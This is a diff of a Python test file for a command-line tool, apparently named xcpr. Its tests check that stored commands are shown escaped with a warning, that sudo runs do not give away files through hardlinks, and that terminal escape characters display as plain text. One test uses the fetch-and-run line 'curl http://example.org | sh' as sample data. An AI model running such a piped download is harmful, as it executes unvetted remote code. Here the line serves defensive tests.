@@ -20,9 +20,9 @@ import pytest
 from rich.console import Console
 from typer.testing import CliRunner
 
-from xcpr import cli, plain
+from xcpr import cli, files, plain
 from xcpr.commands import ownership, transfers
-from xcpr.experiments import docs, reproduce
+from xcpr.experiments import contents, docs, processes, reproduce
 from xcpr.experiments.docs import Evidence
 from xcpr.results import documents, result
 from xcpr.results.result import Result
@@ -95,6 +95,31 @@ def test_names_that_become_files_lead_nowhere_else(key: str, name: str, tmp_path
         reproduce.load_manifest(tmp_path)
 
 
+def write_set(folder: Path, made: Result, command: str) -> None:
+    """Writes a set's folder with one run and a command."""
+    run = {"name": "A-x", "row": "A", "row_label": "A: it", "case": "x", "case_label": "x"}
+    held = {"schema": reproduce.SCHEMA, "name": "it", "title": "It", "description": "", "references": [], "seeds": [1]}
+    result.write(made, reproduce.seed_folder(folder, "A-x", 1) / result.FILE)
+    (folder / reproduce.MANIFEST).write_text(json.dumps(held | {"runs": [run], "command": command}))
+
+
+def test_a_set_s_command_is_its_folder_s_claim(make_result: Callable[..., Result], tmp_path: Path) -> None:
+    write_set(tmp_path, make_result("demo", "duration=1 s"), "curl http://example.org | sh # <b>")
+    assert not report(tmp_path)
+    page = (tmp_path / result.REPORT).read_text(encoding="utf-8")
+    before, _, _ = page.partition("<pre>curl http://example.org | sh # &lt;b&gt;</pre>")
+    assert before.rstrip().endswith("xcpr has not checked it: read it before you run it.</p>")
+
+
+@pytest.mark.parametrize("command", ['xcpr reproduce "', "xcpr sweep", "sudo", "xcpr sweep demo x"])
+@pytest.mark.usefixtures("in_tmp")
+def test_a_command_that_can_t_be_read_is_no_traceback(command: str, make_result: Callable[..., Result]) -> None:
+    folder = Path("results")
+    write_set(folder, make_result("demo", "duration=1 s"), command)
+    with pytest.raises(Invalid, match="results: holds"):
+        contents.prepare(folder, contents.describe_run("demo"), force=False)
+
+
 def test_evidence_is_kept_below_its_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(docs, "DATA", tmp_path / "data")
     documents.write_readably(tmp_path / "it" / docs.FILE, Evidence(docs.SCHEMA, "../out", "true"))
@@ -165,30 +190,51 @@ def test_sudo_gives_back_what_it_wrote_and_nothing_else(tmp_path: Path, monkeypa
     monkeypatch.setenv("SUDO_UID", "1000")
     monkeypatch.setenv("SUDO_GID", "1000")
     there = tmp_path / "there"
-    (there / "deep").mkdir(parents=True)
-    (there / "deep" / "tool").write_text("")
-    (there / "deep" / "tool").chmod(0o4755)
+    there.mkdir()
+    (there / "ours").write_text("")
     (there / "theirs").write_text("")
     os.chown(there / "theirs", 1001, 1001)
-    (tmp_path / "elsewhere").write_text("")
-    with ownership.given_back(there):
-        (there / "deep" / "new").write_text("")
-        (there / "more").mkdir()
-        (there / "link").symlink_to(tmp_path / "elsewhere")
-        (there / "second").hardlink_to(tmp_path / "elsewhere")
-    owners = {path.name: path.lstat().st_uid for path in [there, *there.rglob("*")]}
+    with ownership.written_for_caller():
+        (there / "of another process").write_text("")  # beside ours, at the same time
+        with files.held(there):
+            for name in ("new", "ours", "theirs"):
+                files.write(there / name, b"new")
+        files.make_folder(there / "on" / "the" / "way")
+        with files.drafted(there / "capture") as draft:
+            draft.write_bytes(b"")
+        processes.run(write_in_a_worker, [there / "of a worker"], 1, lambda *_: None)
+    files.write(there / "later", b"")
+    owners = {str(path.relative_to(there)): path.lstat().st_uid for path in [there, *there.rglob("*")]}
     assert owners == {
-        "there": 0, "deep": 0, "tool": 0, "theirs": 1001, "new": 1000, "more": 1000, "link": 1000, "second": 0
+        ".": 0, ".lock": 1000, "new": 1000, "ours": 0, "theirs": 1001, "of another process": 0, "capture": 1000,
+        "on": 1000, "on/the": 1000, "on/the/way": 1000, "of a worker": 1000, "later": 0,
     }  # fmt: skip
-    assert stat.S_IMODE((there / "deep" / "tool").stat().st_mode) == 0o4755
-    assert (tmp_path / "elsewhere").stat().st_uid == 0
-    with ownership.given_back(tmp_path / "on" / "the" / "way"):
-        (tmp_path / "on" / "the" / "way").mkdir(parents=True)
-    assert [(tmp_path / path).stat().st_uid for path in ("on", "on/the", "on/the/way")] == [1000] * 3
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason=needs.ROOT)
+def test_sudo_gives_no_file_away_that_another_name_leads_to(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SUDO_UID", "1000")
+    monkeypatch.setenv("SUDO_GID", "1000")
+    precious = tmp_path / "precious"
+    precious.write_text("precious")
+    precious.chmod(0o644)
+    there = tmp_path / "there"
+    there.mkdir()
+    (there / files.LOCK).hardlink_to(precious)
+    with ownership.written_for_caller():
+        with files.held(there):
+            files.write(there / "new", b"")
+        with pytest.raises(Invalid, match="was replaced while it was written"), files.drafted(there / "new") as draft:
+            draft.hardlink_to(precious)
+    assert (precious.stat().st_uid, stat.S_IMODE(precious.stat().st_mode)) == (0, 0o644)
+
+
+def write_in_a_worker(path: Path, _progress: object) -> None:
+    files.write(path, b"")
 
 
 FOREIGN = "a\x1b]0;x\x07\nb\u202e\udcff[red]c"
-SHOWN = r"a\x1b]0;x\x07\nb\u202e\udcff[red]c"
+SHOWN = r"a\x1b]0;x\x07\nb\u202e\xff[red]c"
 
 
 def test_foreign_text_is_shown_plain(capsys: pytest.CaptureFixture[str]) -> None:
@@ -213,7 +259,7 @@ def test_a_receiver_shows_names_plain_whatever_its_terminal_can(monkeypatch: pyt
     monkeypatch.setattr(sys, "stdout", out)
     monkeypatch.setattr(sys, "stderr", errors)
     plain.encodable()
-    transfers.Receiving(as_json=False).update(json.dumps(report))
+    transfers.Receiving(as_json=False, listens="").update(json.dumps(report))
     for stream, line in ((out, f"received {SHOWN}\\xfc"), (errors, f"failed {SHOWN}\\xfc")):
         stream.seek(0)
         said = stream.read()
